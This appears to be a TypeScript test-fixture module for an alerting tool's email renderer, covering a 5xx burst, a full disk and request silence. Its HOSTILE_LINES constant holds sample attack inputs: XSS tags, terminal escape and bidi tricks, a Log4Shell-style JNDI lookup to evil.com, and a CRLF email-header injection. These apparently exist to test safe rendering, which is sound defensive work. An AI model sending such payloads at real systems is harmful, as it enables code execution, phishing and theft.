/** Stories that render tests tell: a burst of 5xx, a full disk, silence; each as faults over a small view. */
import { seriesKey } from '../../../src/core/observe/series.ts';
import type { EvidenceView, WatchSpec } from '../../../src/core/plugin.ts';
import { buildMailModel, type MailParts } from '../../../src/core/render/model.ts';
import type { Fault, Finding, MailModel, Notification } from '../../../src/core/types.ts';

/** 2026-11-25 03:12:05 UTC: the first bad second of every story. */
export const SINCE = Date.UTC(2026, 10, 25, 3, 12, 5);
export const AT = SINCE + 30_000;
export const FACTS = { host: 'web-1', timezone: 'UTC', version: '0.1.0' };

export interface Observed {
  /** Observations by series: [time, count, sum]. */
  readonly cells?: Readonly<Record<string, readonly (readonly [time: number, count: number, sum?: number])[]>>;
  readonly lines?: Readonly<Record<string, readonly string[]>>;
  /** By 'series|field'. */
  readonly tops?: Readonly<Record<string, readonly (readonly [key: string, count: number])[]>>;
  /** The same before SINCE. */
  readonly topsBefore?: Observed['tops'];
  /** How many different ones, by 'series|field'. */
  readonly distincts?: Readonly<Record<string, number>>;
}

export function viewOf({ cells = {}, lines = {}, tops = {}, topsBefore = {}, distincts = {} }: Observed): EvidenceView {
  const within = (series: string, from: number, to: number) =>
    (cells[series] ?? []).filter(([time]) => time >= from && time < to);
  const count = (series: string, from: number, to: number) =>
    within(series, from, to).reduce((total, [, more]) => total + more, 0);
  return {
    from: 0,
    count,
    sum(series, from, to) {
      return {
        count: count(series, from, to),
        sum: within(series, from, to).reduce((total, [, more, sum]) => total + (sum ?? more), 0),
      };
    },
    keys: () => [],
    quantile: () => undefined,
    distinct: (series, by) => distincts[`${series}|${by}`],
    firstSeen: () => undefined,
    lastSeen: () => undefined,
    top: () => [],
    exemplars: (series, _from, _to, limit) => (lines[series] ?? []).slice(0, limit),
    tops(series, _from, to) {
      const kept = to <= SINCE ? topsBefore : tops;
      return Object.keys(kept)
        .filter((key) => key.startsWith(`${series}|`))
        .map((key) => ({ by: key.slice(series.length + 1), entries: kept[key] ?? [] }));
    },
  };
}

export function watchOf(changes: Partial<WatchSpec> = {}): WatchSpec {
  return {
    name: 'http.5xx.burst',
    detector: 'ratio',
    options: { part: 'http.5xx', whole: 'http.requests' },
    severity: 'critical',
    clearAfterMs: 60_000,
    rank: 0,
    title: 'HTTP 5xx responses',
    why: 'Visitors see error pages instead of the site. A 5xx is always the fault of this side, never of the visitor.',
    whatToDo:
      'See what the upstream says: `journalctl -u app --since "10 min ago"`. If it is down, start it; if it is up and slow, look at what it waits for. The runbook: https://wiki.example.com/runbooks/5xx',
    ...changes,
  };
}

export function findingOf(changes: Partial<Finding> = {}): Finding {
  return {
    watch: 'http.5xx.burst',
    source: 'nginx',
    series: seriesKey('http.5xx', changes.labels ?? {}),
    labels: {},
    time: AT,
    since: SINCE,
    value: 0.124,
    expected: 0.003,
    limit: 0.021,
    unit: 'share',
    windowMs: 60_000,
    score: 6.52,
    urgent: false,
    part: 62,
    whole: 500,
    ...changes,
  };
}

export function faultOf(finding: Finding, changes: Partial<Fault> = {}): Fault {
  return {
    id: 'a1b2c3d4e5f60718',
    key: `${finding.watch}|${finding.source}`,
    watch: finding.watch,
    source: finding.source,
    severity: 'critical',
    state: 'firing',
    firstAt: SINCE + 5_000,
    firedAt: AT,
    hits: 3,
    clearAfterMs: 60_000,
    first: finding,
    peak: finding,
    last: finding,
    ...changes,
  };
}

/** A finding of a measurement against a fixed limit, with its watch. */
export function thresholdFinding(changes: Partial<Finding>): Finding {
  return { ...findingOf({ score: 999, part: undefined, whole: undefined, ...changes }) };
}

export function modelOf(changes: Partial<MailParts> & { readonly watch?: WatchSpec } = {}): MailModel {
  const { watch = watchOf(), leader = faultOf(findingOf()), ...rest } = changes;
  return buildMailModel({
    transition: 'firing',
    leader,
    faults: [leader],
    watchOf: () => watch,
    facts: FACTS,
    view: burstView(),
    at: AT,
    complete: true,
    reading: { lost: {}, unreadBytes: 0 },
    ...rest,
  });
}

export function notificationOf(model: MailModel, changes: Partial<Notification> = {}): Notification {
  return {
    id: '00112233445566aa',
    root: '00112233445566aa',
    receiver: 'ops@example.com',
    at: model.at,
    model,
    ...changes,
  };
}

export const HOSTILE_LINES = [
  '203.0.113.9 - - [25/Nov/2026:03:12:06 +0000] "GET /cart?x=<script>alert(1)</script><img src=x onerror=alert(1)> HTTP/1.1" 502 157 "https://evil.example.com/win-a-phone" "Mozilla/5.0"',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what the attacker writes
  '203.0.113.9 - - [25/Nov/2026:03:12:09 +0000] "GET /\u001b[2J\u001b]0;owned\u0007 HTTP/1.1" 502 157 "-" "\u202Egnp.exe \u200B\u0000 ${jndi:ldap://evil.com/a}"',
  'From: ceo@example.com\r\nBcc: all@example.com\r\n\r\nwww.evil.com is where you must log in now',
];

/** Ten quiet minutes with 0.3% of errors, then thirty seconds with one upstream failing. */
export function burstView(lines: readonly string[] = HOSTILE_LINES): EvidenceView {
  const requests = Array.from({ length: 700 }, (_, i) => [AT - (700 - i) * 1_000, 9] as const);
  const bad = requests.flatMap(([time], i) => {
    if (time >= SINCE) return [[time, 1 + ((i * 7) % 3)] as const];
    return i % 40 === 0 ? [[time, 1] as const] : [];
  });
  return viewOf({
    cells: { 'http.requests': requests, 'http.5xx': bad },
    lines: { 'http.5xx': lines },
    tops: {
      'http.5xx|upstream': [
        ['10.0.0.7:8080', 59],
        ['10.0.0.8:8080', 2],
      ],
      'http.requests|upstream': [
        ['10.0.0.8:8080', 210],
        ['10.0.0.7:8080', 75],
      ],
      'http.5xx|route': [
        ['/cart', 31],
        ['/checkout/:n/pay', 22],
        ['/', 6],
        ['/about', 2],
      ],
      'http.requests|route': [
        ['/', 120],
        ['/cart', 60],
        ['/checkout/:n/pay', 24],
      ],
      'http.5xx|client': [['203.0.113.9', 5]],
      'http.requests|client': [['203.0.113.9', 9]],
    },
  });
}

export const DISK_WATCH = watchOf({
  name: 'host.disk.full',
  detector: 'threshold',
  options: { series: 'host.disk.used', statistic: 'mean', window: 60_000, above: 90, leave: 80, unit: 'percent' },
  severity: 'warning',
  rank: 3,
  title: 'Disk use',
  why: 'On a full disk nothing can be written: databases stop, logs end, uploads fail.',
  whatToDo:
    'See what is full: `df -h`. Find what takes the space: `du -xh --max-depth=2 MOUNT | sort -h | tail`. Files that are deleted but still open: `lsof +L1`. Old logs: `journalctl --disk-usage`.',
});

export function diskModel(): MailModel {
  const labels = { mount: '/var' };
  const series = seriesKey('host.disk.used', labels);
  const finding = thresholdFinding({
    watch: 'host.disk.full',
    source: 'machine',
    series,
    labels,
    value: 93.42,
    expected: 90,
    limit: 90,
    unit: 'percent',
  });
  const cells = Array.from({ length: 60 }, (_, i) => [AT - (60 - i) * 10_000, 1, 84 + i * 0.16] as const);
  return modelOf({
    reading: undefined,
    watch: DISK_WATCH,
    leader: faultOf(finding, { severity: 'warning' }),
    view: viewOf({ cells: { [series]: cells } }),
  });
}

export const SILENCE_WATCH = watchOf({
  name: 'http.silence',
  detector: 'absence',
  options: { series: 'http.requests' },
  title: 'Requests',
  why: 'Nobody reaches the site, or nothing is written to its log any more.',
  whatToDo:
    'Ask for a page yourself: `curl -sI https://shop.example.com/`. Look whether nginx runs: `systemctl status nginx`.',
});

export function silenceModel(): MailModel {
  const finding = findingOf({
    watch: 'http.silence',
    series: 'http.requests',
    value: 250,
    expected: 12,
    limit: 60,
    unit: 'seconds',
    windowMs: 0,
    score: 13.4,
    part: undefined,
    whole: undefined,
  });
  const cells = Array.from({ length: 350 }, (_, i) => [AT - (600 - i) * 1_000, 1 + (i % 4)] as const);
  return modelOf({
    watch: SILENCE_WATCH,
    leader: faultOf(finding),
    view: viewOf({ cells: { 'http.requests': cells } }),
  });
}

/** The burst, over after 14 minutes, with a vhost fault told along. */
export function resolvedModel(): MailModel {
  const peak = findingOf({ value: 0.41, part: 246, whole: 600, score: 40 });
  const over = { state: 'resolved', wellSince: SINCE + 14 * 60_000, resolvedAt: SINCE + 15 * 60_000 } as const;
  const leader = faultOf(findingOf(), { ...over, peak });
  const vhost = findingOf({
    watch: 'http.5xx.vhost',
    labels: { vhost: 'shop.example.com' },
    value: 0.6,
    part: 90,
    whole: 150,
  });
  return modelOf({
    transition: 'resolved',
    leader,
    faults: [leader, faultOf(vhost, { ...over, id: 'ffeeddccbbaa9988' })],
    at: SINCE + 15 * 60_000,
  });
}
